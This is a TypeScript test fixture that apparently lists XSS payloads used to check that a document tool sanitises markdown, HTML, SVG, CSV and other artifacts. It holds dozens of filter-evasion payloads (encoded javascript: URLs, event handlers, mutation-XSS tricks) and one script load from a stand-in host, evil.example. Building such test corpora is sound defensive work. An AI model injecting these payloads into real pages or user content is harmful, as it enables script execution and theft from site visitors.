import type { ArtifactType } from '@quire/core'

/**
 * One hostile input: the artifact type it is stored as and its content. Browser tests reuse the
 * same list (as content, and `content` alone in titles, changelogs and names), so every surface
 * faces the same payloads.
 */
export interface XssPayload {
  readonly name: string
  readonly type: ArtifactType
  readonly content: string
}

const md = (name: string, content: string): XssPayload => ({ name, type: 'md', content })

/** Script elements, spelled in the ways filters have missed. */
const scriptTags: XssPayload[] = [
  md('script element', '<script>alert(1)</script>'),
  md('script with src, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'),
  md('script split around a nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  md('script after an unclosed attribute quote', '<p title="x>"><script>alert(1)</script>'),
  md('script inside a CDATA section', '<![CDATA[<script>alert(1)</script>]]>'),
]

/** Event-handler attributes on allowed and disallowed elements. */
const eventHandlers: XssPayload[] = [
  md('img onerror', '<img src=x onerror=alert(1)>'),
  md('img onerror, slashes for spaces', '<img/src/onerror=alert(1)>'),
  md('upper-case ONERROR on an allowed image', '<img src="https://ok.example/a.png" ONERROR="alert(1)">'),
  md('onclick on an allowed link', '<a href="https://ok.example" onclick="alert(1)">x</a>'),
  md('attribute glued after a quoted value', '<a href="https://ok.example/"title="x"onmouseover=alert(1)>x</a>'),
  md('onmouseover on a div', '<div onmouseover="alert(1)">hover</div>'),
  md('details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'),
  md('body onload', '<body onload=alert(1)>'),
  md('input autofocus onfocus', '<input autofocus onfocus=alert(1)>'),
  md('video source onerror', '<video><source onerror="alert(1)"></video>'),
]

/** `javascript:`, `vbscript:` and `data:` URLs in raw HTML, disguised. */
const dangerousUrls: XssPayload[] = [
  md('javascript: href', '<a href="javascript:alert(1)">x</a>'),
  md('mixed-case javascript: href', '<a href="JaVaScRiPt:alert(1)">x</a>'),
  md('decimal-entity javascript: href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
  md('hex entities and &colon;', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'),
  md('entity-encoded tab inside the scheme', '<a href="java&#x09;script:alert(1)">x</a>'),
  md('raw tab and newline inside the scheme', '<a href="java\tscr\nipt:alert(1)">x</a>'),
  md('leading spaces and a control character', '<a href=" &#14;  javascript:alert(1)">x</a>'),
  md('vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'),
  md('data:text/html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
  md('data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
]

/** The same through Markdown's own syntax. */
const markdownTricks: XssPayload[] = [
  md('markdown link to javascript:', '[x](javascript:alert(1))'),
  md('markdown link, upper case, angle brackets', '[x](<JAVASCRIPT:alert(1)>)'),
  md('markdown link with an entity in the scheme', '[x](javascript&#58;alert(1))'),
  md('markdown link to vbscript:', '[x](vbscript:msgbox(1))'),
  md('markdown link to data:text/html', '[x](data:text/html,<script>alert(1)</script>)'),
  md('markdown image from javascript:', '![x](javascript:alert(1))'),
  md('markdown image from data:image/png', '![x](data:image/png;base64,iVBORw0KGgo=)'),
  md('reference link to javascript:', '[x][r]\n\n[r]: javascript:alert(1)'),
  md('reference image to data:', '![x][r]\n\n[r]: data:image/svg+xml,<svg/onload=alert(1)>'),
  md('autolink to javascript:', '<javascript:alert(1)>'),
  md('link title breaking out into an attribute', '[a](https://ok.example "t\\" onmouseover=\\"alert(1)")'),
  md('HTML block wrapping a markdown link', '<div>\n\n[x](javascript:alert(1))\n\n</div>'),
  md('HTML block around a script', '<details><summary>x</summary>\n\n<script>alert(1)</script>\n\n</details>'),
  md('fence info breaking out of the class', '```js" onmouseover="alert(1)\ncode\n```'),
  md('fence info with markup', '```<script>alert(1)</script>\ncode\n```'),
  md('heading with an image handler', '# <img src=x onerror=alert(1)> title'),
  md('heading breaking out of the anchor label', '# "><script>alert(1)</script>'),
  md('footnote label with markup', 'x[^a"><img src=x onerror=alert(1)>]\n\n[^a"><img src=x onerror=alert(1)>]: note'),
  md('task item with an image handler', '- [ ] <img src=x onerror=alert(1)>'),
  md('table cell with an image handler', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'),
]

/** SVG and MathML: script, handlers and links inside foreign content. */
const foreignContent: XssPayload[] = [
  md('svg onload', '<svg onload=alert(1)>'),
  md('script inside svg', '<svg><script>alert(1)</script></svg>'),
  md('svg link to javascript:', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
  md('svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'),
  md('svg set href to javascript:', '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>'),
  md('mathml link to javascript:', '<math href="javascript:alert(1)">CLICK</math>'),
  md(
    'mathml mglyph style mutation',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ),
  md('svg closing a paragraph before a style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
]

/** Elements that load, submit, navigate or style. */
const activeElements: XssPayload[] = [
  md('iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  md('iframe src javascript:', '<iframe src="javascript:alert(1)"></iframe>'),
  md('form action javascript:', '<form action="javascript:alert(1)"><button>go</button></form>'),
  md('button formaction', '<button formaction="javascript:alert(1)">go</button>'),
  md('meta refresh to javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  md('base href', '<base href="javascript:alert(1)//">'),
  md('object data', '<object data="javascript:alert(1)"></object>'),
  md('embed src data:', '<embed src="data:text/html,<script>alert(1)</script>">'),
  md('link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'),
  md('style element', '<style>body{background:url("javascript:alert(1)")}</style>'),
  md('style attribute url', '<div style="background:url(javascript:alert(1))">x</div>'),
  md('style attribute expression', '<p style="width:expression(alert(1))">x</p>'),
]

/** Parser differentials: content a sanitiser and a browser read differently. */
const mutationXss: XssPayload[] = [
  md('noscript title mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
  md('template holding a script', '<template><script>alert(1)</script></template>'),
  md('select template style mutation', '<select><template><style><img src=x onerror=alert(1)></style></template></select>'),
  md('textarea closed early', '<textarea></textarea><script>alert(1)</script>'),
  md('xmp raw text', '<xmp><img src=x onerror=alert(1)></xmp>'),
  md('noembed raw text', '<noembed><img src=x onerror=alert(1)></noembed>'),
  md('comment hiding a tag', '<!--><img src=x onerror=alert(1)>-->'),
  md('title raw text', '<title><img src=x onerror=alert(1)></title>'),
  md('plaintext', '<plaintext><img src=x onerror=alert(1)>'),
]

/** Other types: each must come out as text, never as markup. */
const otherTypes: XssPayload[] = [
  { name: 'html artifact', type: 'html', content: '<script>alert(1)</script><img src=x onerror=alert(1)>' },
  {
    name: 'svg artifact',
    type: 'svg',
    content: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
  },
  { name: 'csv artifact', type: 'csv', content: 'a,b\n"<script>alert(1)</script>",<img src=x onerror=alert(1)>' },
  { name: 'malformed csv artifact', type: 'csv', content: 'a,"b\n<script>alert(1)</script>' },
  { name: 'json artifact', type: 'json', content: '{"a": "</code></pre><script>alert(1)</script>"}' },
  { name: 'yaml artifact', type: 'yaml', content: 'a: </code></pre><img src=x onerror=alert(1)>' },
  { name: 'txt artifact', type: 'txt', content: '</pre><script>alert(1)</script>' },
  { name: 'mermaid artifact', type: 'mermaid', content: 'graph TD\nA["</code></pre><img src=x onerror=alert(1)>"] --> B' },
]

/** Every payload, grouped by the kind of trick it tries. */
export const xssCorpus: readonly XssPayload[] = [
  ...scriptTags,
  ...eventHandlers,
  ...dangerousUrls,
  ...markdownTricks,
  ...foreignContent,
  ...activeElements,
  ...mutationXss,
  ...otherTypes,
]
